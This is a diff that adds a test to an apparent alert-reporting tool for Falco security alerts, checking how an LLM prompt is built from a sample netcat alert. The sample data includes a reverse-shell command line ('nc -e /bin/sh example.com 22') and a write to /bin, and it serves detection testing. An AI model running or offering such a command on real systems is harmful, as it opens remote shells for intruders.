@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import copy
 import importlib.util
 import json
@@ -32,6 +33,7 @@ from falco_reporter.reporting.service import ReportService
 from tests.samples import REAL_DIR, REAL_SAMPLES
 
 SHELL_SAMPLE = "syscall_terminal_shell_in_container_0_43.json"
+NETCAT_SAMPLE = "syscall_netcat_remote_code_execution_in_container.json"
 EPHEMERAL = "https://kubernetes.io/docs/concepts/workloads/pods/ephemeral-containers/"
 
 
@@ -211,6 +213,28 @@ async def test_prompt_has_rules_and_three_delimited_data_blocks(kb: KnowledgeBas
     assert blocks["knowledge_entry"]["detects"] == entry.detects
     assert "references" not in blocks["knowledge_entry"]  # the built-in writer owns the references
     assert blocks["knowledge_entry"]["baseline"]["verdict"] == "suspicious"
+
+
+async def test_prompt_sends_the_output_message_once_and_names_the_evidence_ids(kb: KnowledgeBase) -> None:
+    """A modern output line's key=value tail repeats the fields, so only its message is sent; the ids to cite are named."""
+    fake = ToolCallingFake(responses=[tool_reply(good_answer())])
+    with contextlib.suppress(WriterFailed):  # the prompt is what matters here, not this answer's fate
+        await LLMWriter(config(), kb, model=fake).write(context(real_alert(NETCAT_SAMPLE)))
+    text = str(fake.prompts[0][1].content)
+    alert = json.loads(text.split("<alert_data>", 1)[1].split("</alert_data>", 1)[0])
+    assert alert["output"] == "Netcat runs inside container that allows remote code execution"
+    assert alert["fields"]["proc.cmdline"] == "nc -e /bin/sh example.com 22"
+    assert text.splitlines()[0].endswith(
+        "Evidence ids to cite: netcat-exec, actor-falco-event-generator, known-cause-4, known-cause-1."
+    )
+    # An older line (values in parentheses, fewer fields) is sent whole.
+    fake = ToolCallingFake(responses=[tool_reply(good_answer())])
+    with contextlib.suppress(WriterFailed):
+        await LLMWriter(config(), kb, model=fake).write(
+            context(real_alert("syscall_write_below_binary_dir_legacy.json"))
+        )
+    text = str(fake.prompts[0][1].content)
+    assert "(user=root command=touch /bin/hack file=/bin/hack)" in text
 
 
 async def test_text_answer_with_fences_and_raw_newlines_is_parsed(kb: KnowledgeBase) -> None:
